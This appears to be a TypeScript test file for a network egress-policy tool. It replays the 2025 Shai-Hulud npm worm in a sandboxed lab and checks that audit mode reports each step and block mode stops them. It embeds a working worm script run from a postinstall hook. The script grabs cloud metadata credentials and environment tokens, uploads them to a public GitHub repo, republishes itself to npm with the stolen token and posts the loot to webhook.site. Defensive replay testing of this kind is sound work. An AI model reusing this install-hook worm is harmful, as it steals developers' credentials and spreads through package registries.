// docs/incidents/shai-hulud.md
import t from 'tap'
import { openLab, type Lab } from '../../lab/lab.ts'
import { whyNoLab } from '../../lab/requirements.ts'
import { npmInstall, offer, project, registry } from './npm-install.ts'
import { itIsTold, itWasStopped, replay, type Incident } from './replay.ts'

t.setTimeout(180_000)

const hook = 'webhook.site'
const published = 'registry.npmjs.org'
const metadata = '169.254.169.254'
const token = `ghp_${'sandworm'.repeat(4)}0000`
const npmToken = `npm_${'sandworm'.repeat(4)}0000`

/** The worm's script, in the order of the real one; whatever fails, the installation goes on. */
const worm = `const { execSync } = require('node:child_process')
const { mkdirSync, writeFileSync } = require('node:fs')
const twice = text => Buffer.from(Buffer.from(text).toString('base64')).toString('base64')
const call = async (method, url, body, headers) => {
  try {
    const answer = await fetch(url, { method, headers, signal: AbortSignal.timeout(5000), ...(body ? { body } : {}) })
    return await answer.text()
  } catch {
    return ''
  }
}
const github = (method, path, body) =>
  call(method, 'https://api.github.com' + path, JSON.stringify(body), { authorization: 'Bearer ' + process.env.GITHUB_TOKEN, 'user-agent': 'bundle' })
const main = async () => {
  const cloud = await call('GET', 'http://${metadata}/latest/meta-data/iam/security-credentials/')
  const loot = JSON.stringify({ env: process.env, cloud })
  await github('POST', '/user/repos', { name: 'Shai-Hulud', private: false })
  await github('PUT', '/repos/victim/Shai-Hulud/contents/data.json', { message: 'x', content: twice(loot) })
  mkdirSync('next', { recursive: true })
  writeFileSync('next/package.json', JSON.stringify({ name: 'next-victim', version: '1.0.1' }))
  writeFileSync('next/.npmrc', '//${published}/:_authToken=' + process.env.NPM_TOKEN)
  try {
    execSync('npm publish --registry https://${published}/ --fetch-retries 0 --no-update-notifier --cache ../cache', { cwd: 'next', stdio: 'ignore', timeout: 15000 })
  } catch {}
  await call('POST', 'https://${hook}/bb8ca5f6', twice(loot))
}
main()
`

const packages = [
  {
    manifest: { name: 'tiny-colour', version: '4.1.1', main: 'index.js', scripts: { postinstall: 'node bundle.js' } },
    files: [
      { path: 'index.js', content: 'module.exports = 1\n' },
      { path: 'bundle.js', content: worm },
    ],
  },
]

const incident: Incident<'install'> = {
  attacker: [hook],
  honest: ['api.github.com', published],
  spoils: [token, npmToken],
  policy: [
    'allow:',
    `  - GET,HEAD ${registry}`,
    `  - GET,HEAD ${published}`,
    '  - GET https://api.github.com/repos/acme/**',
    'tokens: {}',
    '',
  ].join('\n'),
  env: { GITHUB_TOKEN: token, NPM_TOKEN: npmToken },
  steps: {
    install: `${project({ name: 'app', version: '1.0.0', dependencies: { 'tiny-colour': '^4.1.0' } })} && ${npmInstall}`,
  },
}

/** What was written to hosts that the policy lets be read. */
async function written(lab: Lab): Promise<readonly string[]> {
  const requests = await lab.origins.requests(
    ({ host, method }) => ['api.github.com', published].includes(host) && method !== 'GET',
  )
  return requests.map(({ method, host, path }) => `${method} ${host}${path}`)
}

t.test('Shai-Hulud, 2025: a worm in an install script', { skip: whyNoLab(['metadata']) }, async t => {
  await using lab = await openLab({ services: ['origins', 'metadata'] })
  await offer(lab, packages)
  for (const host of ['api.github.com', published]) await lab.origins.script(host, '*', { status: 201, body: '{}' })
  const by = { exe: /\/node$/ }

  await t.test('in audit each of its steps is seen, named and attributed', async t => {
    const run = await replay(lab, incident, 'audit')
    t.same(
      await written(lab),
      [
        'POST api.github.com/user/repos',
        'PUT api.github.com/repos/victim/Shai-Hulud/contents/data.json',
        `PUT ${published}/next-victim`,
      ],
      'the worm works',
    )
    t.match(await lab.sink.requests(), [{ method: 'POST', path: '/bb8ca5f6' }])
    itIsTold(t, run, {
      ...by,
      host: metadata,
      verdict: 'observe',
      reason: 'address-literal',
      layer: 'http',
      method: 'GET',
    })
    itIsTold(t, run, {
      ...by,
      host: 'api.github.com',
      verdict: 'observe',
      reason: 'path',
      layer: 'http',
      method: 'POST',
    })
    itIsTold(t, run, {
      ...by,
      host: 'api.github.com',
      verdict: 'observe',
      reason: 'path',
      layer: 'http',
      method: 'PUT',
    })
    itIsTold(t, run, {
      ...by,
      host: published,
      verdict: 'observe',
      reason: 'method',
      layer: 'http',
      method: 'PUT',
      parent: /\/node$/,
    })
    itIsTold(t, run, { ...by, host: hook, verdict: 'observe', reason: 'no-rule', layer: 'http', method: 'POST' })
  })
  await t.test('in block nothing of it gets out, nothing is published, and the installation works', async t => {
    const run = await replay(lab, incident, 'block')
    await itWasStopped(t, lab, incident)
    t.same(await written(lab), [])
    itIsTold(t, run, { ...by, host: metadata, verdict: 'deny', reason: 'address-literal' })
    itIsTold(t, run, { ...by, host: 'api.github.com', verdict: 'deny', reason: 'path', method: 'POST' })
    itIsTold(t, run, { ...by, host: published, verdict: 'deny', reason: 'method', method: 'PUT' })
    itIsTold(t, run, { ...by, host: hook, verdict: 'deny', reason: 'no-rule', layer: 'dns' })
    t.equal(run.step('install').exitCode, 0, run.step('install').stderr)
  })
})
